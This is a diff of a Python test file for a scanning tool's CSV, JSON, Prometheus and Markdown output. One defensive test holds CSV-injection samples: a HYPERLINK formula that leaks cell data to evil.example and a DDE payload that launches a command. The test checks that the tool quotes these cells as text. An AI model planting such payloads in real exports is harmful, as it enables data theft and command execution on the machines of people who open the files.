@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import argparse
 import csv
+import dataclasses
 import datetime as dt
 import io
 import json
@@ -12,19 +13,25 @@ from pathlib import Path
 
 import jsonschema
 import pytest
+from markdown_it import MarkdownIt
 from prometheus_client.parser import text_string_to_metric_families
 
 from checks.model import Expectation, Facts, Finding, HostReport, Severity, ok
+from checks.names import unicode_form
 from esp_clients import CertificateState, TrackingDomain
-from tests.support.data import DATA, REPO
+from tests.support.data import DATA
+from tests.support.scan_schema import SCHEMA, validate_strictly
 from tui.cli.formats.csv_rows import COLUMNS
 from tui.cli.formats.document import ResultRow, ScanDocument
 from tui.cli.formats.json_document import document_json
 from tui.cli.formats.write import FORMATS, emit, render
+from tui.history.model import Change, FindingHistory, Recorded
+from tui.report.document import utc_text
 
-SCHEMA = json.loads((REPO / "docs" / "schemas" / "scan.schema.json").read_text(encoding="utf-8"))
 GOLDEN = DATA / "golden" / "scan.md"
 STARTED = dt.datetime(2026, 12, 6, 9, 30, tzinfo=dt.UTC)
+JUNIPER = "go.xn--jniper-3ya.example"
+"""go.jüniper.example as DNS is asked: the Unicode form is shown beside it."""
 HOSTILE = 'quote " backslash \\ new\nline, comma | pipe * star `tick` <b>'
 
 
@@ -65,8 +72,8 @@ def proxied() -> HostReport:
 
 def hostile() -> HostReport:
     return HostReport(
-        host="go.juniper.example",
-        key="juniper-mg/go.juniper.example",
+        host=JUNIPER,
+        key=f"juniper-mg/{JUNIPER}",
         expectation=Expectation(esp="mailgun", esp_label="Mailgun"),
         findings=(
             Finding(
@@ -135,14 +142,53 @@ def rendered(document: ScanDocument, name: str) -> str:
     return stream.getvalue()
 
 
+def csv_records(text: str) -> list[dict[str, str]]:
+    """The CSV parsed back, each cell without the formula guard (a `'` before `=`, `+`, `-`, `@`,
+    tab or CR) so that it can be compared with what was written."""
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    for row in rows:
+        for column, value in row.items():
+            if value[:1] == "'" and value[1:2] in ("=", "+", "-", "@", "\t", "\r"):
+                row[column] = value[1:]
+    return rows
+
+
+def expected_records(document: ScanDocument) -> list[dict[str, str]]:
+    """Every finding of `document` as the CSV's columns should hold it."""
+    records = []
+    for row in document.rows:
+        for finding in row.report.findings:
+            history = document.history_of(row, finding.code)
+            records.append(
+                {
+                    "host": row.host,
+                    "host_unicode": unicode_form(row.host) or "",
+                    "brand": row.brand,
+                    "account": row.account,
+                    "esp": row.esp,
+                    "health": row.health.value,
+                    "code": finding.code,
+                    "severity": finding.severity.value,
+                    "title": finding.title,
+                    "detail": finding.detail,
+                    "fix": finding.fix,
+                    "since": utc_text(history.since) if history else "",
+                    "change": history.change.value if history else "",
+                }
+            )
+    return records
+
+
 def test_csv_has_a_header_and_one_row_per_finding_that_round_trips(
     document: ScanDocument,
 ) -> None:
     text = rendered(document, "csv")
     assert text.startswith(",".join(COLUMNS) + "\r\n")
-    rows = list(csv.DictReader(io.StringIO(text, newline="")))
-    assert len(rows) == sum(len(row.report.findings) for row in document.rows)
-    odd = next(row for row in rows if row["host"] == "go.juniper.example")
+    assert COLUMNS[-2:] == ("since", "change"), "the same columns with or without history"
+    rows = csv_records(text)
+    assert rows == expected_records(document)
+    odd = next(row for row in rows if row["host"] == JUNIPER)
+    assert odd["host_unicode"] == "go.jüniper.example"
     assert odd["fix"] == HOSTILE and odd["brand"] == f"Juniper {HOSTILE}"
     assert odd["severity"] == "warn" and odd["health"] == "warn" and odd["esp"] == "mailgun"
     proxied_rows = [row for row in rows if row["host"] == "links.bluebell.example"]
@@ -153,11 +199,74 @@ def test_csv_has_a_header_and_one_row_per_finding_that_round_trips(
         "caa.ok",
     ]
     assert {row["health"] for row in proxied_rows} == {"fail"}
+    assert {(row["host_unicode"], row["since"], row["change"]) for row in proxied_rows} == {
+        ("", "", "")
+    }
+
+
+def test_csv_keeps_its_columns_and_fills_since_and_change_with_history(
+    document: ScanDocument,
+) -> None:
+    subject = document.rows[1].subject(fleet=True)
+    began = STARTED - dt.timedelta(days=3)
+    recorded = Recorded(
+        scan_id=2,
+        at=document.finished_at,
+        previous_at=STARTED - dt.timedelta(days=1),
+        findings={subject: {"dns.proxied": FindingHistory(since=began, change=Change.SAME)}},
+        resolved=(),
+    )
+    text = rendered(dataclasses.replace(document, recorded=recorded), "csv")
+    assert text.startswith(",".join(COLUMNS) + "\r\n")
+    rows = csv_records(text)
+    proxied = next(row for row in rows if row["code"] == "dns.proxied")
+    assert (proxied["since"], proxied["change"]) == ("2026-12-03T09:30:00Z", "same")
+    assert sum(1 for row in rows if row["since"]) == 1
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted_as_text() -> None:
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click to fix")'
+    report = HostReport(
+        host="links.brand.example",
+        key="links.brand.example",
+        expectation=Expectation(esp="mailgun"),
+        findings=(
+            Finding(
+                code="esp.not_verified",
+                severity=Severity.WARN,
+                title="@SUM(1+1)",
+                detail=formula,  # an ESP's message, quoted by the finding
+                fix="+cmd|' /C calc'!A0",
+            ),
+            Finding(code="dns.ok", severity=Severity.OK, title="-12.5", detail="\t=1+1"),
+            Finding(code="caa.ok", severity=Severity.OK, title="+3", detail="-", fix="a=b"),
+        ),
+        facts=Facts(),
+    )
+    single = ScanDocument(
+        command="check",
+        rows=(ResultRow(report=report, brand="-2+3"),),
+        started_at=STARTED,
+        finished_at=STARTED,
+    )
+    text = rendered(single, "csv")
+    raw = list(csv.DictReader(io.StringIO(text, newline="")))
+    first, second, third = raw
+    assert first["detail"] == "'" + formula
+    assert first["title"] == "'@SUM(1+1)" and first["fix"] == "'+cmd|' /C calc'!A0"
+    assert first["brand"] == "'-2+3"
+    assert second["detail"] == "'\t=1+1"
+    assert second["title"] == "-12.5" and third["title"] == "+3", "plain numbers stay numbers"
+    assert third["detail"] == "'-" and third["fix"] == "a=b"
+    for row in raw:
+        for value in row.values():
+            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r") or value in ("-12.5", "+3")
+    assert csv_records(text) == expected_records(single)
 
 
 def test_json_is_valid_against_the_schema_and_says_when_and_what(document: ScanDocument) -> None:
     value = json.loads(rendered(document, "json"))
-    jsonschema.validate(value, SCHEMA)
+    validate_strictly(value)
     assert value == json.loads(json.dumps(document_json(document)))
     assert value["generated_at"] == "2026-12-06T09:30:04Z"
     assert value["trackdeck_version"] == "1.2.3"
@@ -166,6 +275,8 @@ def test_json_is_valid_against_the_schema_and_says_when_and_what(document: ScanD
     bluebell = value["domains"][1]
     assert bluebell["esp_view"]["https"] is False and bluebell["brand"] == "Bluebell"
     assert value["domains"][2]["esp_view"] is None
+    assert value["domains"][2]["host_unicode"] == "go.jüniper.example"
+    assert "host_unicode" not in value["domains"][1]
 
 
 def test_the_schema_refuses_what_it_should() -> None:
@@ -179,6 +290,11 @@ def test_the_schema_refuses_what_it_should() -> None:
     ):
         with pytest.raises(jsonschema.ValidationError):
             jsonschema.validate(broken, SCHEMA)
+    undeclared = {**empty, "domains": [{"host": "a.example", "esp": None, "health": "ok",
+                                        "findings": [], "surprise": 1}]}  # fmt: skip
+    jsonschema.validate(undeclared, SCHEMA)  # the published schema lets consumers ignore it …
+    with pytest.raises(jsonschema.ValidationError, match="surprise"):
+        validate_strictly(undeclared)  # … the tests do not let the output grow it undeclared
 
 
 def test_prometheus_parses_with_help_type_and_escaped_labels(document: ScanDocument) -> None:
@@ -197,7 +313,7 @@ def test_prometheus_parses_with_help_type_and_escaped_labels(document: ScanDocum
         assert f"# HELP {name} " in text and f"# TYPE {name} gauge" in text
         assert families[name].type == "gauge" and families[name].documentation
     health = {s.labels["host"]: s.value for s in families["trackdeck_host_health"].samples}
-    assert health == {"links.acme.example": 0, "links.bluebell.example": 3, "go.juniper.example": 1}
+    assert health == {"links.acme.example": 0, "links.bluebell.example": 3, JUNIPER: 1}
     juniper = next(
         s for s in families["trackdeck_host_health"].samples if s.labels["account"] == "juniper-mg"
     )
@@ -214,7 +330,7 @@ def test_prometheus_parses_with_help_type_and_escaped_labels(document: ScanDocum
     }
     assert listed == {
         ("links.bluebell.example", "Spamhaus DBL"): 1,
-        ("go.juniper.example", "Spamhaus DBL"): 0,
+        (JUNIPER, "Spamhaus DBL"): 0,
     }
     expiry = families["trackdeck_tls_certificate_expiry_timestamp_seconds"].samples
     assert [s.value for s in expiry] == [dt.datetime(2027, 1, 5, tzinfo=dt.UTC).timestamp()]
@@ -234,6 +350,44 @@ def test_prometheus_series_are_unique_and_label_names_consistent(document: ScanD
 
 def test_markdown_matches_the_golden_ticket(document: ScanDocument) -> None:
     assert rendered(document, "markdown") == GOLDEN.read_text(encoding="utf-8")
+
+
+def inline_code(markdown: str) -> list[str]:
+    """The contents of every code span, as a CommonMark parser reads them."""
+    return [
+        child.content
+        for token in MarkdownIt("commonmark").parse(markdown)
+        if token.type == "inline"
+        for child in token.children or ()
+        if child.type == "code_inline"
+    ]
+
+
+@pytest.mark.parametrize(
+    "fix",
+    [
+        "Set links.bluebell.example to DNS only (grey cloud) in Cloudflare.",
+        "Use a resolver that answers: --resolver IP[:PORT]",
+        'brand.example. IN CAA 0 issue "letsencrypt.org"',
+        "run `dig +short CNAME x.example` then ``compare``",
+        "`quoted` at both ends `",
+        HOSTILE,
+    ],
+)
+def test_markdown_fixes_are_code_spans_a_parser_reads_back_exactly(fix: str) -> None:
+    report = HostReport(
+        host="x.example",
+        key="x.example",
+        expectation=Expectation(),
+        findings=(Finding(code="dns.dangling", severity=Severity.FAIL, title="t", fix=fix),),
+        facts=Facts(),
+    )
+    single = ScanDocument(
+        command="check", rows=(ResultRow(report=report),), started_at=STARTED, finished_at=STARTED
+    )
+    markdown = rendered(single, "markdown")
+    assert markdown.startswith("## trackdeck check: 1 host\n")
+    assert inline_code(markdown)[-1] == " ".join(fix.split())
 
 
 def test_every_format_renders_an_empty_scan() -> None:
